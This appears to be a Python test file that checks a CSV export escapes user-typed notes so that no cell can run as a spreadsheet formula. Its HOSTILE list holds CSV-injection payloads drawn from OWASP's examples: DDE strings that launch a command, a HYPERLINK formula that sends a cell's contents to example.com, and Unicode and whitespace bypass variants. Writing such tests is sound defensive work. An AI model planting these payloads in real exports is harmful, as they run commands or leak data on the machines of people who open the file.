"""What a caster typed never runs as a formula in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watcher.storage.csv_cells import csv_text, plain_cell

# the beginnings that OWASP's page on "CSV Injection" names, and the usual ways past a check of the first sign
HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("typed", HOSTILE)
def test_a_note_that_begins_like_a_formula_is_text(typed: str) -> None:
    (_, (cell, _)) = csv.reader(io.StringIO(csv_text(("note", "level_mm"), [(typed, 1.5)]), newline=""))
    assert cell == "'" + typed


def test_numbers_and_plain_words_stay_as_they_are() -> None:
    text = csv_text(("mould", "change_mm", "note"), [("cream jug 2", -0.25, None), ("beaker", 3, "a = b")])
    assert text == "mould,change_mm,note\r\ncream jug 2,-0.25,\r\nbeaker,3,a = b\r\n"


@given(st.text())
def test_no_text_whatever_begins_a_formula_and_all_of_it_is_kept(typed: str) -> None:
    cell = plain_cell(typed)
    assert isinstance(cell, str) and cell in (typed, "'" + typed)
    assert not re.match(r"[=+\-@\t\r\n]", cell)


def test_a_row_of_another_length_is_an_error_not_a_shift() -> None:
    with pytest.raises(ValueError, match="1 cells; give 2"):
        csv_text(("a", "b"), [("x",)])
